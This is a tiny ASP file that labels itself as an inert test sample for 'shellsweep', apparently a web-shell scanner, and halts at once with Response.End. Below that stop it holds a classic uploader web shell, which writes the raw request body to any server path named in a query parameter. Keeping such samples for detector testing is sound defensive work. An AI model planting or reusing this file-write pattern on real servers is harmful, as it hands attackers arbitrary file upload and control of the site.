<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
Dim b : b = Request.BinaryRead(Request.TotalBytes)
Set s = Server.CreateObject("ADODB.Stream")
s.Type = 1 : s.Open : s.Write b
s.SaveToFile Server.MapPath(Request.QueryString("n")), 2
%>
